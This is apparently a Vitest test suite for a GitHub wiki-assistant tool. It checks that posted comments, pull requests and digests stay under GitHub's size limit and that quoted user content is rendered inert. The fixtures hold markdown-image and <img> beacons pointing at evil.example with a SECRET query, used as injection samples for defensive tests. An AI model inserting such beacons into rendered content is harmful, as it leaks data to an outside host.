// Every body the steward posts stays within GitHub's 65,536 characters (issue 25, item 4), end to
// end against the GitHub emulator, which refuses a longer one with GitHub's 422 as GitHub does: a
// wiki of 6,000 pages with a tag on 14% of them (800 candidates the model budget leaves unread), a
// model reply of 400 claims, a digest of hostile and enormous data, a validate run with thousands of
// faults. Each body is accepted (201), says what was cut, and keeps the steward's hidden markers.
// And what a digest or a validate summary repeats from an asker or a page is inert (items 15, 16).
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { GitHubEmulator, RecordedRequest } from '../github-emulator/emulator.js';
import { type StandIn, startStandIn } from '../providers/stand-ins.js';
import { INSTALL_PAGE, INSTALL_QUESTION, INSTALL_QUOTE, KEYS } from '../providers/support.js';
import { page } from '../helpers/wiki-fixture.js';
import { type DigestReport, renderDigest } from '../../src/digest/digest-report.js';
import { postableBody } from '../../src/github/posted-text.js';
import { MAX_MODEL_CLAIMS } from '../../src/answer/model/model-answerer.js';
import {
  type Workspace,
  asker,
  bareGit,
  closeChecked,
  expectExit,
  makeWorkspace,
  questionIssue,
  removeTempDirs,
  runStep,
  seededRepo,
  traceOf,
  visible,
} from './harness.js';
import { COMMENTS, ISSUES, PULLS } from './routes.js';

const LIMIT = 65_536;
const PIXEL = '![p](https://evil.example/pixel?d=SECRET)';
const TAG = '<img src="https://evil.example/tag?d=SECRET">';

/** No live image or HTML in markdown GitHub renders (code spans and fenced blocks are inert: left out). */
function expectInert(text: string): void {
  const markdown = text.replace(/^```[\s\S]*?^```/gm, '').replace(/(`+)[^`][\s\S]*?\1/g, '');
  expect(markdown).not.toContain('![');
  expect(markdown).not.toMatch(/<img/i);
}

/** The body of every text write that reached the emulator, with its status. */
const postedBodies = (requests: readonly RecordedRequest[]) =>
  requests
    .filter((q) => (q.method === 'POST' || q.method === 'PATCH') && [COMMENTS, PULLS, ISSUES].includes(q.route ?? ''))
    .map((q) => ({ route: q.route, status: q.status, body: String((q.body as { body?: string } | undefined)?.body ?? '') }));

let openai: StandIn;
let gh: GitHubEmulator;
let ws: Workspace;

beforeAll(async () => {
  openai = await startStandIn('openai', { key: KEYS.OPENAI_API_KEY });
});
afterAll(async () => {
  await openai.close();
  await removeTempDirs();
});
beforeEach(() => openai.reset().setFallback(undefined));
afterEach(() => closeChecked(gh));

async function ask(number: number, title: string) {
  asker(gh, 'alice', 'triage');
  questionIssue(gh, number, title);
  const from = gh.requests.length;
  const r = await runStep({
    githubEnv: gh.env(),
    workspace: ws,
    eventName: 'issues',
    payload: gh.events.issues('opened', number),
    inputs: { llm: 'openai', 'llm-base-url': `${openai.url}/v1`, 'llm-model': 'gpt-test' },
    env: { OPENAI_API_KEY: KEYS.OPENAI_API_KEY },
  });
  expectExit(r, 0);
  return { ...r, requests: gh.requests.slice(from) };
}

/** Every text write was accepted and is within the limit; returns the bodies. */
function expectAccepted(requests: readonly RecordedRequest[]) {
  const bodies = postedBodies(requests);
  expect(bodies.length).toBeGreaterThan(0);
  for (const b of bodies) {
    expect(b.status, `${b.route}: ${b.body.length} characters`).toBeLessThan(300);
    expect(b.body.length).toBeLessThanOrEqual(LIMIT);
    // Bounded by its own fields: the write's last-resort cut (posted-text.ts) was never needed.
    expect(b.body, String(b.route)).not.toContain("to stay within GitHub's");
  }
  return bodies;
}

describe("answer comments and capture pull requests stay within GitHub's limit", () => {
  it('a 6,000-page wiki with a tag on 14% of its pages: 800 candidates left unread are listed first-25 and counted, the trace JSON shortened', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 6_000; i++) {
      files[`wiki/concepts/service-${String(i).padStart(4, '0')}.md`] = page({
        title: `Service ${i}`,
        type: 'concepts',
        body: `Service ${i} is owned by team ${i % 40} and paged through its own channel.`,
      }).replace('tags: [testing]', i % 7 === 0 ? 'tags: [testing, rotation]' : 'tags: [testing]');
    }
    ({ gh, ws } = await seededRepo(await makeWorkspace(files)));
    openai.setFallback({ reply: { claims: [], covered: false, uncovered: ['the rotation schedule'] } });
    const r = await ask(2, 'What is the rotation schedule?');

    const [comment] = gh.state.commentsOn(2);
    expect(comment).toBeDefined();
    const body = comment!.body;
    expect(body.length).toBeLessThanOrEqual(LIMIT);
    expectAccepted(r.requests);
    const trace = traceOf(body)!;
    expect(trace.outcome).toBe('gap');
    // The folded trace names the first 25 unread pages and counts the rest.
    const notRead = /^- Not read: (.*)$/m.exec(visible(body))?.[1] ?? '';
    expect(notRead.match(/`concepts\/service-\d{4}\.md`/g)).toHaveLength(25);
    const moreUnread = Number(/… and (\d+) more$/.exec(notRead)?.[1]);
    expect(moreUnread).toBeGreaterThan(700);
    // The hidden trace (what the digest reads) is whole but for its lists, whose losses it counts.
    expect(trace.unread).toHaveLength(25);
    expect(trace.omitted.unread).toBe(moreUnread);
    expect(body.trimEnd()).toMatch(/\n<!-- wiki-steward:answer key=[\w-]+ -->\n<!-- wiki-steward:trace \{.*\} -->$/);

    const pr = gh.state.pulls.find((p) => p.head === 'wiki-steward/capture/2');
    expect(pr?.body?.length).toBeLessThanOrEqual(LIMIT);
  });

  it('a model reply of 400 claims: the first 40 are taken (a note says so), and the comment and the capture PR body fit', async () => {
    ({ gh, ws } = await seededRepo(await makeWorkspace()));
    const claims = Array.from({ length: 400 }, (_, i) => ({
      text: `Claim ${i}: the installer adds a pre-commit hook that validates staged pages (${'and says so at length '.repeat(8)}). ${TAG}`,
      citations: [{ path: INSTALL_PAGE, start_line: 18, end_line: 18, quote: INSTALL_QUOTE }],
    }));
    const uncovered = Array.from({ length: 300 }, (_, i) => `whether hook ${i} runs on Windows machines too ${PIXEL}`);
    openai.setFallback({ reply: { claims, covered: false, uncovered } });
    const r = await ask(3, INSTALL_QUESTION);

    const bodies = expectAccepted(r.requests);
    const body = gh.state.commentsOn(3)[0]!.body;
    expect(bodies.map((b) => b.body)).toContain(body);
    const trace = traceOf(body)!;
    expect(trace.outcome).toBe('gap');
    expect(trace.notes).toContainEqual(
      expect.stringMatching(/360 claim\(s\) past the first 40 of a reply and 280 "uncovered" entries past the first 20 were left out/),
    );
    expect(visible(body)).toContain('360 claim(s) past the first 40');
    expect(visible(body).match(/^- Claim \d+:/gm)).toHaveLength(MAX_MODEL_CLAIMS);
    // The 20 "uncovered" entries taken, each named once.
    const notInWiki = /^\*\*Not in the wiki:\*\* (.*)\.$/m.exec(visible(body))?.[1] ?? '';
    expect(notInWiki.split(', ')).toHaveLength(20);
    expectInert(visible(body));

    const pr = gh.state.pulls.find((p) => p.head === 'wiki-steward/capture/3')!;
    expect(pr.body!.length).toBeLessThanOrEqual(LIMIT);
    expect(pr.body).toMatch(/\n<!-- wiki-steward:capture key=[\w-]+ issue=3 page=\S+ commit=[0-9a-f]{40} -->$/);
    expectInert(visible(pr.body!));

    // The committed capture page: each list its first entries and a count, well under the limit.
    const captured = (await bareGit(gh.gitDir(), 'diff', '--name-only', 'main', pr.head)).split('\n').find((f) => /^wiki\/queries\/(?!_index\.md$)/.test(f))!;
    const content = await bareGit(gh.gitDir(), 'show', `${pr.head}:${captured}`);
    expect(content.length).toBeLessThan(LIMIT);
    expect(content).toMatch(/^## What the wiki had\n\n(?:- “.*\n){25}- … and 15 more\n/m);
    expect(content).toMatch(/^## What was missing\n\n(?:- `.*`\n){20}\n/m);
    expectInert(content);
  });
});

describe("the digest issue stays within GitHub's limit, and inert (item 15)", () => {
  it('question terms kept whole from code spans are code in the digest, never a live image or tag', async () => {
    ({ gh, ws } = await seededRepo(await makeWorkspace()));
    openai.setFallback({ reply: { claims: [], covered: false, uncovered: [] } });
    await ask(4, `Why does \`${PIXEL}\` break \`${TAG}\` in sourdough?`);
    const r = await runStep({ githubEnv: gh.env(), workspace: ws, eventName: 'workflow_dispatch', payload: {} });
    expectExit(r, 0);
    const digest = gh.state.issues.find((i) => i.labels.includes('wiki:digest'))!;
    expect(digest.body).toContain(`\`${PIXEL}\``);
    expectInert(digest.body ?? '');
    expectInert(r.summary);
  });

  it('an enormous report renders every list as its first 20 entries and a count, within the limit once posted', () => {
    const long = (i: number) => `${PIXEL} ${TAG} question ${i} ${'about a very long thing '.repeat(40)}`;
    const many = <T>(n: number, f: (i: number) => T) => Array.from({ length: n }, (_, i) => f(i));
    const report: DigestReport = {
      period: { label: '2026-W49', start: '2026-11-30T00:00:00.000Z', end: '2026-12-07T00:00:00.000Z' },
      outcomes: { answered: 1, gap: 5_000, cold: 5_000, error: 0 },
      asked: 10_001,
      questions: many(10_001, (i) => ({
        where: i % 2 === 0 ? ('discussion' as const) : ('issue' as const),
        issueNumber: 100_000 + i,
        question: long(i),
        outcome: 'gap' as const,
        url: `https://github.test/o/r/discussions/${100_000 + i}#discussioncomment-${9_000_000 + i}`,
        up: 1_000,
        down: 1_000,
      })),
      unansweredTopics: many(2_000, (i) => ({
        terms: [PIXEL, TAG, `term${i}`, 'x'.repeat(500)],
        questions: many(300, (k) => ({
          question: long(k),
          where: k % 2 === 0 ? ('discussion' as const) : ('issue' as const),
          issueNumber: k,
          url: `https://github.test/o/r/issues/${k}`,
          outcome: 'gap' as const,
        })),
      })),
      openCaptures: many(5_000, (i) => ({ number: i, title: long(i), url: `https://github.test/o/r/pull/${i}`, ageDays: i })),
      mergedCaptures: many(5_000, (i) => ({ number: i, title: long(i), url: `https://github.test/o/r/pull/${i}` })),
      feedback: {
        up: 1,
        down: 5,
        mostDownvoted: many(5, (i) => ({
          question: long(i),
          where: 'issue' as const,
          issueNumber: 1,
          url: `https://github.test/o/r/issues/1#c${i}`,
          down: 5,
          up: 0,
        })),
      },
      mostCited: many(10, (i) => ({ path: `${TAG}/${'p'.repeat(300)}${i}.md`, citations: 3 })),
      oldestAskedAbout: many(10, (i) => ({ path: `a/${'q'.repeat(300)}${i}.md`, asked: 2, updated: `${TAG}` })),
      health: {
        pages: 50_000,
        categories: 3,
        invalid: many(50_000, (i) => ({ path: `concepts/${i}.md`, messages: [`created must be ISO-8601 UTC, got '${PIXEL}' ${'x'.repeat(500)}`] })),
        brokenLinks: many(50_000, (i) => ({ path: `concepts/${i}.md`, line: 3, target: `${PIXEL}${'t'.repeat(300)}` })),
        orphans: many(50_000, (i) => `concepts/${TAG}${i}.md`),
        stale: many(50_000, (i) => ({ path: `concepts/${i}.md`, updated: '2020-01-01' })),
        lowQuality: many(50_000, (i) => ({ path: `concepts/${i}.md`, overall: 2 })),
        oversizedIndexes: many(50_000, (i) => ({ path: `c${i}/_index.md`, bytes: 9_000 })),
        updated: new Map(),
        tooDeep: many(50_000, (i) => `a/b/c/d/${i}.md`),
      },
    };
    const markdown = renderDigest(report, 'wiki-steward digest 2026-W49');
    expectInert(markdown);
    expect(markdown).toContain('- … and 1980 more');
    expect(markdown).toContain('\n… and 9951 more\n'); // the questions table: its first 50 rows
    expect(markdown).toContain('  - … and 49980 more');
    // renderDigest bounds the report itself; the write's cut is only a last resort.
    expect(markdown.length).toBeLessThanOrEqual(LIMIT);
    const body = postableBody(markdown);
    expect(body.length).toBeLessThanOrEqual(LIMIT);
    expectInert(body);
  });
});

describe("the validate job's summary stays within the limit, and inert (item 16)", () => {
  it('a frontmatter value quoted by a diagnostic is text, and 3,000 faults are listed first and counted', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 3_000; i++) {
      files[`wiki/concepts/broken-${String(i).padStart(4, '0')}.md`] = page({ title: `Broken ${i}`, type: 'concepts' }).replace(
        /^created: .*$/m,
        i % 2 === 0 ? `created: "${PIXEL}"` : `created: '${TAG}'`,
      );
    }
    ({ gh, ws } = await seededRepo(await makeWorkspace(files)));
    const r = await runStep({
      githubEnv: gh.env(),
      workspace: ws,
      eventName: 'push',
      payload: { ref: 'refs/heads/feature', repository: { default_branch: 'main' }, sender: { login: 'alice', type: 'User' } },
    });
    expect(r.code).toBe(1);
    expect(r.summary).toContain('## wiki-steward: validate');
    expect(r.summary.length).toBeLessThanOrEqual(LIMIT);
    expect(r.summary).toMatch(/\| concepts\/broken-0000\.md \| \d+ \| created must be ISO-8601 .*got '\[p\]\\\(https:\/\/evil\.example/);
    expect(r.summary).toContain('&lt;img src=');
    expect(r.summary).toMatch(/\n… and 2\d{3} more faults: the annotations and `wiki-steward validate` list every one\./);
    expectInert(r.summary);
    // The summary's paths are what the annotations name; the whole list is on the files.
    expect(r.stdout.match(/::error title=wiki-steward timestamps/g)?.length).toBeGreaterThanOrEqual(3_000);
    expect(await readFile(path.join(ws.dir, 'wiki/concepts/broken-0000.md'), 'utf8')).toContain(PIXEL);
  });
});
